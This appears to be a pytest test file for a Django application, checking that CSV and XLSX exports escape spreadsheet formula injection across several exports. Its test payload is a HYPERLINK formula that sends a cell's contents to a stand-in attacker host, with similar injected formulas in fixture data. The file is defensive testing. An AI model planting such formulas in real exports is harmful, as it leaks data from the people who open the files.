"""CSV and XLSX exports never hand a spreadsheet a formula (OWASP CSV injection, ASVS 1.2.10):
the rule itself, and each export that writes a cell someone else typed or imported."""

import csv
import io
from datetime import date
from io import StringIO

import polars as pl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from regie.core.csvsafe import safe_cell, safe_columns, safe_row, xlsx_cells
from regie.results.charts import Chart
from regie.results.report import report_xlsx_bytes
from tests.factories import AreaFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("-12.50", "-12.50"),  # just a number: harmless and stays readable
        ("+3", "+3"),
        ("Jansen", "Jansen"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_row_and_columns_agree():
    values = [EVIL, "-1", "-x", "ok", None]
    frame = safe_columns(pl.DataFrame({"v": values}), ["v"])
    assert frame["v"].to_list() == safe_row(values)


def test_xlsx_cells_keep_the_text_but_never_a_formula(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(xlsx_cells(sheet, [EVIL, "-1", 3]))
    book.save(tmp_path / "x.xlsx")
    row = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert row[0].value == EVIL and row[0].data_type == "s"
    assert row[1].value == "-1" and row[2].value == 3


# -- each export ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_detect_csv_prefixes_a_formula_tenancy_number():
    from tests.test_detection import GEL, PSY, ago, event, tenancy

    evil = '=HYPERLINK("http://e.vil")'  # a tenancy number holds at most 40 characters
    t = tenancy(evil)
    event(t, ago(5), GEL, 2)
    event(t, ago(5), GEL, 1)
    event(t, ago(5), PSY, 2)
    out = StringIO()
    call_command("detect", "--as-of", "2026-11-27", "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][0] == "'" + evil
    assert not any(line.startswith("=") for line in out.getvalue().splitlines())


@pytest.mark.django_db
def test_wgs_csv_prefixes_formula_names(client, world):
    from regie.accounts.models import Department, Role
    from tests.factories import UserFactory
    from tests.test_wgs_pages import household

    collections = UserFactory(username="incasso", role=Role.DEPARTMENT, department=Department.COLLECTIONS)
    household(1, "Jansen", people=(("HUU", EVIL, "", "@Jansen"),))
    client.force_login(collections)
    day = timezone.localdate().isoformat()
    response = client.get(reverse("wgs:export"), {"source": "ready", "day": day, "format": "csv"})
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    assert row["first_name"] == "'" + EVIL
    assert row["last_name"] == "'@Jansen"
    assert row["arrears_amount"] == "1400.00"


def test_results_chart_csv_prefixes_formula_labels():
    chart = Chart(key="caseload", title="t", columns=["=Who", "Cases"], rows=[[EVIL, 3], ["-Team", -2]])
    rows = list(csv.reader(io.StringIO(chart.csv()), delimiter=";"))
    assert rows == [["'=Who", "Cases"], ["'" + EVIL, "3"], ["'-Team", "-2"]]


@pytest.mark.django_db
def test_results_report_xlsx_keeps_a_formula_area_name_as_text(world):
    from tests.results_world import case, household

    area = AreaFactory(code="kwaad", name=EVIL)
    hh = household(area, name="Bakker")
    case(hh, world.pro_n, world.team_n, date(2024, 2, 1), date(2024, 5, 1))
    sheet = load_workbook(io.BytesIO(report_xlsx_bytes(2024))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.django_db
def test_import_report_prefixes_echoed_formula_values(tmp_path):
    from regie.signalling.importing.service import import_paths

    path = tmp_path / "eenheden.csv"
    path.write_text(
        "vhe;straat;huisnummer;toevoeging;postcode;woonplaats;wijk\n"
        "VHE1;Dorpsstraat;=SUM(1,2);;7341AB;Zandhoven;Bloemenbuurt\n"
        "VHE2;@Dorpsstraat;3;;niet;Zandhoven;Bloemenbuurt\n"
    )
    result = import_paths(paths=[path], kind="units", dry_run=True, report_dir=tmp_path / "out")
    text = result.report_path.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'=SUM(1,2)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "-")) and c != "-"]


def test_import_rejects_xlsx_keeps_formula_text(tmp_path):
    from regie.signalling.importing.read import RawFile
    from regie.signalling.importing.report import write_rejects

    class Checked:
        raw = RawFile(tmp_path / "x.xlsx", "xlsx", ";", "xlsx", ["naam"], pl.DataFrame())

    rows = pl.DataFrame({"c0": [EVIL], "fout": ["naam: onbekend"]})
    path = write_rejects(tmp_path / "x-rejected.xlsx", Checked(), rows)
    sheet = load_workbook(path).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == EVIL and cell.data_type == "s"
